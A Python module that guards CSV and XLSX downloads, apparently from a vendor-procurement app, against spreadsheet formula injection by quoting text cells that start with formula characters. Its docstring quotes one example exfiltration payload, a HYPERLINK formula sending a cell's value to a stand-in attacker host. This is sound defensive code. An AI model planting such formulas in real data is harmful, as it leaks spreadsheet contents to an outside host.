"""Spreadsheet-safe cells for every CSV and XLSX download (formula injection).

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is
read by Excel, LibreOffice and Google Sheets as a formula: a vendor named
``=HYPERLINK("http://evil.example/?"&A1,"klik")`` would run in the spreadsheet of
every auditor who opens ``/penyedia.csv``. So, following the OWASP rule (CSV
Injection), every text cell that starts with one of those characters is written with
a leading single quote (``'=HYPERLINK(...)``), which spreadsheets show as text.

Numbers are left as they are: an amount such as ``-1500000.00`` (a negative revision)
is a decimal string that no spreadsheet runs, and a quote would break the figures.
A cell counts as a number when it is a plain decimal (``[+-]?digits[.digits]``); a
number cannot carry a formula. Downloads are for people's spreadsheets; the JSON API
carries the exact values, unchanged.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

FORMULA_CHARS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def neutralise_cell(value: Any) -> Any:
    """``value``, with a leading ``'`` if it is text a spreadsheet would read as a formula."""
    if (
        isinstance(value, str)
        and value[:1] in FORMULA_CHARS
        and _PLAIN_NUMBER.fullmatch(value) is None
    ):
        return "'" + value
    return value


def neutralise_row(row: dict[str, Any]) -> dict[str, Any]:
    return {key: neutralise_cell(value) for key, value in row.items()}


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every cell passed through ``neutralise_cell``."""
    return frame.map(neutralise_cell)
